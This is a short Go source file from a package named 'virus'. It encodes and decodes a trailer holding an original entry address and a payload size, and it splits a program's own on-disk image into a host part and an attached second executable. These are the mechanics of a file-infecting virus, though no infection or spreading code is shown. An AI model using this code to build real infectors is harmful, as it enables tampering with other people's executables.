package virus

import (
	"encoding/binary"

	ed "github.com/xyproto/veil/internal/editor"
)

// trailerSize is the fixed 16-byte footer spec.md's payload trailer
// format names: an 8-byte original entry VA followed by an 8-byte
// payload size, both little-endian.
const trailerSize = 16

// Payload is an attached second executable: its raw bytes plus the
// trailer recorded alongside it, per spec.md §3's "Attached payload"
// data-model entry.
type Payload struct {
	Bytes           []byte
	OriginalEntryVA ed.Address
	PayloadSize     uint64
}

// encodeTrailer serializes va and size into the fixed 16-byte footer.
func encodeTrailer(va ed.Address, size uint64) [trailerSize]byte {
	var t [trailerSize]byte
	binary.LittleEndian.PutUint64(t[0:8], uint64(va))
	binary.LittleEndian.PutUint64(t[8:16], size)
	return t
}

// decodeTrailer reads back a trailer written by encodeTrailer. ok is
// false if raw is too short to contain one.
func decodeTrailer(raw []byte) (va ed.Address, size uint64, ok bool) {
	if len(raw) < trailerSize {
		return 0, 0, false
	}
	t := raw[len(raw)-trailerSize:]
	va = ed.Address(binary.LittleEndian.Uint64(t[0:8]))
	size = binary.LittleEndian.Uint64(t[8:16])
	return va, size, true
}

// splitAttached inspects raw (this process's own on-disk image) for a
// valid trailing Payload. hostSize is the length of raw with any
// attached payload and its trailer stripped off — the portion that is
// this build's actual host image and the only part a BinaryEditor
// should ever parse or re-emit. payload.Bytes is nil when raw carries
// no valid attachment (payloadSize is 0, or larger than raw could
// possibly hold).
func splitAttached(raw []byte) (hostSize int, payload Payload) {
	va, size, ok := decodeTrailer(raw)
	if !ok || size == 0 {
		return len(raw), Payload{}
	}
	footprint := int(size) + trailerSize
	if footprint < 0 || footprint > len(raw) {
		return len(raw), Payload{}
	}
	hostSize = len(raw) - footprint
	payload = Payload{
		Bytes:           append([]byte(nil), raw[hostSize:hostSize+int(size)]...),
		OriginalEntryVA: va,
		PayloadSize:     size,
	}
	return hostSize, payload
}
